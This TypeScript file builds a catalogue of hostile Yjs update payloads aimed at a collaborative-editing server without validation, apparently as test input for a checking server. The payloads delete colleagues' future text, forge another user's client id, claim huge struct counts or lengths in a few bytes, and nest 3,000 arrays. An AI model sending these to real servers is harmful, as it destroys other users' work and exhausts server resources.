import * as encoding from "lib0/encoding";
import * as Y from "yjs";
import type { Place } from "./typed-history";

/** Who is attacked, and by whom. */
export interface Target {
  /** A colleague's Yjs client id with so many characters typed. */
  readonly victim: number;
  readonly victimClock: number;
  /** The attacker's own id, claimed and unused. */
  readonly own: number;
  readonly place: Place;
}

/** Updates that no honest page makes, and what they do to a Yjs server without checks. */
export const attacks: Readonly<Record<string, (target: Target) => Uint8Array>> = {
  "deletes what a colleague has yet to type": ({ victim, victimClock }) =>
    bytes(0, 1, victim, 1, victimClock + 1, 100_000),
  "writes under a colleague's client id": ({ victim, victimClock, place }) =>
    insertion({ clientId: victim, clock: victimClock, place }),
  "claims 2^25 structs in a few bytes": ({ own }) => bytes(1, 2 ** 25, own, 0),
  "sends the second format": () => Y.encodeStateAsUpdateV2(documentOf("v2 bytes read as v1")),
  "cuts the delete set off": ({ own, place }) =>
    Uint8Array.of(...insertion({ clientId: own, clock: 0, place }).slice(0, -1), 1),
  "leaves a gap before its text": ({ own, place }) => insertion({ clientId: own, clock: 500, place }),
  "makes a garbage struct 2^52 long": ({ own }) => bytes(1, 1, own, 0, 0, 2 ** 52, 0),
  "writes into a root of its own": ({ own }) =>
    written(own, (doc) => doc.getText("elsewhere").insert(0, "x")),
  "puts list items into the map of rows": ({ own }) =>
    written(own, (doc) => doc.getArray("rows").insert(0, ["x"])),
  "hides a subdocument": ({ own }) => written(own, (doc) => doc.getMap("rows").set("sub", new Y.Doc())),
  "nests 3,000 arrays": ({ own }) => written(own, nest),
};

function bytes(...values: readonly number[]): Uint8Array {
  const to = encoding.createEncoder();
  for (const value of values) encoding.writeVarUint(to, value);
  return encoding.toUint8Array(to);
}

/** One character between two known ones. */
function insertion({
  clientId,
  clock,
  place: { left, right },
}: {
  readonly clientId: number;
  readonly clock: number;
  readonly place: Place;
}): Uint8Array {
  const to = encoding.createEncoder();
  for (const value of [1, 1, clientId, clock]) encoding.writeVarUint(to, value);
  encoding.writeUint8(to, 4 | 0x80 | 0x40);
  for (const id of [left, right]) {
    encoding.writeVarUint(to, id.clientId);
    encoding.writeVarUint(to, id.clock);
  }
  encoding.writeVarString(to, "x");
  encoding.writeVarUint(to, 0);
  return encoding.toUint8Array(to);
}

function written(own: number, write: (doc: Y.Doc) => void): Uint8Array {
  const doc = new Y.Doc();
  doc.clientID = own;
  write(doc);
  return Y.encodeStateAsUpdate(doc);
}

function documentOf(text: string): Y.Doc {
  const doc = new Y.Doc();
  doc.getText("rows").insert(0, text);
  return doc;
}

function nest(doc: Y.Doc): void {
  let inner = new Y.Array<unknown>();
  doc.getMap("rows").set("deep", inner);
  for (let level = 0; level < 3_000; level += 1) {
    const next = new Y.Array<unknown>();
    inner.insert(0, [next]);
    inner = next;
  }
}
